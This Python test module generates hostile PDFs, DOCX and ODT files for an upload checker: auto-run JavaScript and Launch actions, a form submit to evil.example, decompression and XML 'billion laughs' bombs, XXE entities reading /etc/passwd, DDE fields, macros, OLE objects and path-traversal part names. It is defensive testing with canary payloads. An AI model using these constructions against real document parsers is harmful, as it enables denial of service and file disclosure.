"""Bad papers: PDFs and office documents that act, hide, unfold or turn in circles."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable
from io import BytesIO
from random import Random

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.uploads import samples
from tests.uploads.samples import CANARY, ODT_TYPE, RELATION, SPACES


def _changed(change: Callable[[pikepdf.Pdf], object], **options: object) -> bytes:
    with pikepdf.open(BytesIO(samples.pdf())) as made:
        change(made)
        return samples.saved(made, **options)


def acting_pdf(rolls: Random) -> bytes:
    act = Dictionary(
        rolls.choice(
            [
                {"/S": Name.JavaScript, "/JS": String(CANARY)},
                {"/S": Name.Launch, "/F": String(CANARY)},
                {"/S": Name.URI, "/URI": String(f"javascript:{CANARY}")},
                {"/S": Name.SubmitForm, "/F": String(f"http://evil.example/{CANARY}")},
            ]
        )
    )

    def change(made: pikepdf.Pdf) -> None:
        where = rolls.choice(["open", "page", "names", "link", "file"])
        if where == "open":
            made.Root.OpenAction = act
        elif where == "page":
            made.pages[0].AA = Dictionary(O=act, C=act)
        elif where == "names":
            made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), act])))
        elif where == "link":
            made.pages[0].Annots = Array([Dictionary(Subtype=Name.Link, Rect=[0, 0, 9, 9], A=act)])
        else:
            made.attachments[f"{CANARY}.exe"] = CANARY.encode()

    return _changed(change)


def locked_pdf(rolls: Random) -> bytes:
    user = rolls.choice(["", "geheim"])
    return _changed(lambda _made: None, encryption=pikepdf.Encryption(owner="baas", user=user))


def _raw_pdf(*objects: bytes) -> bytes:
    body = b"%PDF-1.7\n"
    for number, each in enumerate(objects, 1):
        body += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    return body + b"trailer\n<< /Root 1 0 R >>\n%%EOF"


_CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"


def turning_pdf(rolls: Random) -> bytes:
    """Trees that bite their tail, depths without end, counts that lie, a stream that unfolds a thousand times."""
    deep = rolls.choice([100, 5_000, 400_000])
    bomb = zlib.compress(zlib.compress(bytes(50_000_000), 9), 9)
    stream = b"<< /Type /ObjStm /N 9 /First 10 /Filter [/FlateDecode /FlateDecode] /Length %d >>\nstream\n" % len(bomb)
    return rolls.choice(
        [
            _raw_pdf(_CATALOG, b"<< /Type /Pages /Count 1 /Kids [2 0 R] >>"),
            _raw_pdf(_CATALOG, b"<< /Type /Pages /Count 2000000000 /Kids [3 0 R] >>", b"<< /Kids [2 0 R 2 0 R] >>"),
            _raw_pdf(_CATALOG, b"<< /Type /Pages /Kids " + b"[" * deep + b"]" * deep + b">>"),
            _raw_pdf(_CATALOG, b"<< /Type /Pages /Kids 3 0 R >>", b"4 0 R", b"3 0 R"),
            _raw_pdf(_CATALOG, b"<< /Type /Pages /Count -1 /Kids [] >>"),
            _raw_pdf(_CATALOG, stream + bomb + b"\nendstream"),
            _raw_pdf(b"<< /Pages 1 0 R >>"),
            b"%PDF-1.7\n" + b"1 0 obj << " * deep,
            b"%PDF-" + bytes(100_000),
            b"%PDF-1.7\nxref\n0 4294967295\n" + b"0000000000 65535 f \n" * 100 + b"trailer <<>>",
        ]
    )


def long_pdf(rolls: Random) -> bytes:
    """Many pages in a ring of links; it is read within bounds."""
    made = pikepdf.new()
    for _each in range(rolls.randrange(200, 600)):
        made.add_blank_page(page_size=(100, 100))
    made.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String(CANARY))
    return samples.saved(made)


def bomb_in_zip(rolls: Random) -> bytes:
    kind = rolls.choice(["part", "many", "text", "odt"])
    if kind == "many":
        return samples.docx_with(parts={f"word/{number}.xml": b"" for number in range(rolls.randrange(1_000, 3_000))})
    size = rolls.choice([13, 61, 80]) * 1_000_000
    if kind == "odt":
        return samples.odt(parts={"content.xml": b" " * size})
    return samples.docx_with(parts={"word/document.xml" if kind == "text" else "word/media/image1.jpg": bytes(size)})


def lying_zip(rolls: Random) -> bytes:
    """A part that says it is small and is not, or the other way round."""
    data = bytearray(samples.docx_with(parts={"word/document.xml": b" " * 100_000}))
    at = data.rindex(b"word/document.xml") - 46
    data[at + 24 : at + 28] = struct.pack("<I", rolls.choice([0, 10, 2**32 - 1, 2**31]))
    return bytes(data)


_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_XML_BOMBS = (
    f'<!DOCTYPE d [<!ENTITY l0 "lol">{_LAUGHS}]><d>&l9;</d>',
    f'<!DOCTYPE d [<!ENTITY a "{"a" * 50_000}">]><d>{"&a;" * 5_000}</d>',
    '<!DOCTYPE d SYSTEM "http://evil.example/x.dtd"><d/>',
    '<!DOCTYPE d [<!ENTITY % a SYSTEM "file:///etc/passwd"> %a;]><d/>',
    '<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]><d>&a;</d>',
    "<d>" * 3_000 + "</d>" * 3_000,
    "<d " + " ".join(f'a{n}=""' for n in range(100_000)) + "><d>",
    "<d>" + "\ufffe" + "</d>",
)


def bomb_in_xml(rolls: Random) -> bytes:
    text = rolls.choice(_XML_BOMBS)
    data = text.encode(rolls.choice(["utf-8", "utf-16"]), "replace")
    where = rolls.choice(["word/document.xml", "[Content_Types].xml", "word/_rels/document.xml.rels", "content.xml"])
    return samples.odt(parts={where: data}) if where == "content.xml" else samples.docx_with(parts={where: data})


def _relation(kind: str, target: str, *, outside: bool = False) -> str:
    mode = ' TargetMode="External"' if outside else ""
    return f'<Relationship Id="bad" Type="{RELATION}/{kind}" Target="{target}"{mode}/>'


def acting_docx(rolls: Random) -> bytes:
    bad = rolls.choice(
        [
            ("", _relation("vbaProject", "v.bin"), {"word/v.bin": CANARY}),
            ("", _relation("attachedTemplate", f"http://evil.example/{CANARY}", outside=True), {}),
            (f'<w:altChunk {SPACES} r:id="bad"/>', _relation("aFChunk", "a.html"), {"word/a.html": CANARY}),
            (f'<w:p {SPACES}><w:control r:id="bad"/></w:p>', _relation("control", "a.xml"), {"word/a.xml": CANARY}),
            (f'<w:p {SPACES}><w:fldSimple w:instr="DDE {CANARY}"/></w:p>', "", {}),
            (f'<w:p {SPACES}><w:del w:author="{CANARY}"/></w:p>', "", {}),
            ("", _relation("customXml", "../customXml/i.xml"), {"customXml/i.xml": f"<a>{CANARY}</a>"}),
            ("", _relation("oleObject", "e.bin"), {"word/e.bin": CANARY, f"../../{CANARY}": CANARY}),
        ]
    )
    return samples.docx_with(*bad)


def acting_odt(rolls: Random) -> bytes:
    bad = rolls.choice(
        [
            (f"<office:scripts><office:script>{CANARY}</office:script></office:scripts>", {"Basic/m.xml": CANARY}),
            (f'<draw:frame><draw:object-ole xlink:href="./{CANARY}"/></draw:frame>', {CANARY: CANARY}),
            (f'<draw:frame><draw:image xlink:href="http://evil.example/{CANARY}"/></draw:frame>', {}),
            (f'<draw:frame><draw:plugin xlink:href="{CANARY}"/></draw:frame>', {f"../{CANARY}": CANARY}),
            (f'<text:a xlink:href="vnd.sun.star.script:{CANARY}">x</text:a>', {}),
        ]
    )
    return samples.odt(*bad)


def other_office(rolls: Random) -> bytes:
    """A ZIP of another program: spreadsheet, slides, book, archive, macros, template."""
    macros = samples.unzipped(samples.docx())
    macros["[Content_Types].xml"] = macros["[Content_Types].xml"].replace(
        b"document.main+xml", b"document.macroEnabled"
    )
    sheet = {
        "[Content_Types].xml": '<Types><Override PartName="/xl/workbook.xml" ContentType="sheet.main+xml"/></Types>'
    }
    other = rolls.choice(["application/epub+zip", "application/vnd.oasis.opendocument.spreadsheet"])
    return samples.zipped(
        rolls.choice(
            [macros, sheet, {"mimetype": other}, {"META-INF/MANIFEST.MF": "a"}, {"mimetype": ODT_TYPE}, {"a": "b"}]
        )
    )


def strange_picture_inside(rolls: Random) -> bytes:
    """A picture in a document that is a program, a TIFF or a picture that takes no part in documents."""
    inside = rolls.choice([b"MZ\x90", b"II*\0", b"<svg/>", samples.heic(), samples.picture("WEBP"), b""])
    if rolls.random() < 0.5:
        return samples.docx_with(parts={"word/media/image1.jpg": inside})
    return samples.odt(parts={"Pictures/plan.jpg": inside})
